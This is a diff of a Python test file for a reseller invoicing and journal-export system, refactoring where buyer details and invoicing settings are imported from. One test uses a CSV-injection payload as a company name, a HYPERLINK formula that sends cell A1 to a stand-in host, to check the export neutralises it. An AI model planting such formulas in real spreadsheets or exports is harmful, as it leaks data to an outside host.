@@ -27,8 +27,9 @@ BUYERS = {
 def month_of_sales(factory):
     """October invoices (issued 1 November) for a Finnish, a Swedish (reverse charge) and a
     UK buyer, and a credit note on the Finnish one (issued 3 November)."""
-    from reseller.billing.invoicing import buyer_of, invoicing_settings
+    from reseller.core.directory import reseller_profile
     from reseller.core.identity import vat_status
+    from wallet.invoices.invoicing import buyer_of, invoicing_settings
 
     issued = {}
     for kind, fields in BUYERS.items():
@@ -39,7 +40,8 @@ def month_of_sales(factory):
         buy(reseller, f"{kind}-b.fi", "20.00")
         with unit_of_work():
             issued[kind] = monthly.issue_month(
-                reseller_id=reseller.id, month=Month.parse("2026-10"), buyer=buyer_of(reseller),
+                reseller_id=reseller.id, month=Month.parse("2026-10"),
+                buyer=buyer_of(reseller_profile(reseller.id)),
                 vat_status=vat_status(reseller.country, reseller.vat_id),
                 language="en", payment_mode="prepaid", settings=invoicing_settings(),
                 now=at("2026-11-01T00:05:00"))
@@ -102,8 +104,9 @@ def test_the_cli_exports_the_journal(app, month_of_sales, tmp_path):
 def test_a_buyer_name_a_spreadsheet_would_run_is_text_in_the_journal(factory):
     """A company name like ``=HYPERLINK(…)`` is an apostrophe-prefixed text cell (OWASP's
     CSV-injection advice); the amounts of a credit note still read as negative numbers."""
-    from reseller.billing.invoicing import buyer_of, invoicing_settings
+    from reseller.core.directory import reseller_profile
     from reseller.core.identity import vat_status
+    from wallet.invoices.invoicing import buyer_of, invoicing_settings
 
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")'
     reseller = factory.reseller(company_name=formula, language="en", **BUYERS["fi"])
@@ -112,7 +115,8 @@ def test_a_buyer_name_a_spreadsheet_would_run_is_text_in_the_journal(factory):
     buy(reseller, "kaava.fi", "10.00")
     with unit_of_work():
         invoice = monthly.issue_month(
-            reseller_id=reseller.id, month=Month.parse("2026-10"), buyer=buyer_of(reseller),
+            reseller_id=reseller.id, month=Month.parse("2026-10"),
+            buyer=buyer_of(reseller_profile(reseller.id)),
             vat_status=vat_status(reseller.country, reseller.vat_id), language="en",
             payment_mode="prepaid", settings=invoicing_settings(),
             now=at("2026-11-01T00:05:00"))
